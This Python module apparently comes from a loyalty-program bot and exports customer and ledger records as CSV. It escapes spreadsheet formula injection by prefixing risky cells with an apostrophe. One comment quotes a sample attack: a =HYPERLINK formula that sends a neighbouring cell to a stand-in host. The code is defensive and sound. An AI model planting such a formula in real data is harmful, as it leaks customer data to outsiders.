"""CSV exports for the owner: the customers and the whole ledger.

UTF-8 with a byte-order mark, so spreadsheet programs show Greek and Amharic names right.
Erased customers are left out of the customer file; their ledger rows stay (anonymised).
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable
from decimal import Decimal

from sqlalchemy import select
from sqlalchemy.orm import aliased

from bot.loyalty import audit
from bot.loyalty.context import Actor, EngineContext
from models import Branch, Customer, LedgerEntry, StaffMember

CUSTOMER_COLUMNS = (
    "member_code",
    "name",
    "phone",
    "language",
    "tier",
    "points_balance",
    "marketing_consent",
    "joined_at",
    "last_activity_at",
)
LEDGER_COLUMNS = (
    "id",
    "created_at",
    "member_code",
    "kind",
    "amount",
    "balance_after",
    "purchase_amount",
    "branch",
    "staff_member_code",
    "note",
)


# A spreadsheet runs a cell that starts with one of these as a formula: a customer named
# =HYPERLINK("http://evil.test/?d="&C2,"Prize") would send the next column to a stranger.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


# A phone number ("+254 700 000001") or a signed figure runs nothing: it stays as it is.
_PLAIN_NUMBER = re.compile(r"[+-]?[0-9][0-9 .]*")


def safe_cell(value: object) -> object:
    """Text that a spreadsheet would run is kept as text, behind an apostrophe (OWASP's
    advice for CSV injection). Numbers stay numbers, negative ones too."""
    if (
        isinstance(value, str)
        and value.startswith(FORMULA_STARTS)
        and not _PLAIN_NUMBER.fullmatch(value)
    ):
        return "'" + value
    return value


def to_csv(header: tuple[str, ...], rows: Iterable[Iterable[object]]) -> bytes:
    """Every CSV the bot writes: UTF-8 with a BOM, and no cell a spreadsheet would run."""
    text = io.StringIO()
    writer = csv.writer(text)
    writer.writerow(header)
    writer.writerows([safe_cell(cell) for cell in row] for row in rows)
    return text.getvalue().encode("utf-8-sig")


class ExportService:
    def __init__(self, ctx: EngineContext) -> None:
        self._ctx = ctx

    async def customers_csv(self, *, actor: Actor | None) -> bytes:
        await audit.note(
            self._ctx.db, self._ctx.clock, actor=actor, action="export", file="customers"
        )
        async with self._ctx.db.read(heavy=True) as session:
            customers = await session.scalars(
                select(Customer).where(Customer.erased_at.is_(None)).order_by(Customer.id)
            )
            rows = [
                (
                    c.member_code,
                    c.name or "",
                    c.phone or "",
                    c.language,
                    c.tier_key or "",
                    c.points_balance,
                    "yes" if c.marketing_consent else "no",
                    c.joined_at.isoformat(),
                    c.last_activity_at.isoformat() if c.last_activity_at else "",
                )
                for c in customers
            ]
        return to_csv(CUSTOMER_COLUMNS, rows)

    async def ledger_csv(self, *, actor: Actor | None) -> bytes:
        await audit.note(self._ctx.db, self._ctx.clock, actor=actor, action="export", file="ledger")
        digits = self._ctx.program.shop.currency_digits
        staff_customer = aliased(Customer)
        async with self._ctx.db.read(heavy=True) as session:
            result = await session.execute(
                select(LedgerEntry, Customer.member_code, Branch.key, staff_customer.member_code)
                .join(Customer, Customer.id == LedgerEntry.customer_id)
                .outerjoin(Branch, Branch.id == LedgerEntry.branch_id)
                .outerjoin(StaffMember, StaffMember.id == LedgerEntry.staff_id)
                .outerjoin(staff_customer, staff_customer.id == StaffMember.customer_id)
                .order_by(LedgerEntry.id)
            )
            rows = [
                (
                    e.id,
                    e.created_at.isoformat(),
                    code,
                    e.kind.value,
                    e.amount,
                    e.balance_after,
                    str(Decimal(e.purchase_minor).scaleb(-digits))
                    if e.purchase_minor is not None
                    else "",
                    branch or "",
                    staff or "",
                    e.note or "",
                )
                for e, code, branch, staff in result
            ]
        return to_csv(LEDGER_COLUMNS, rows)
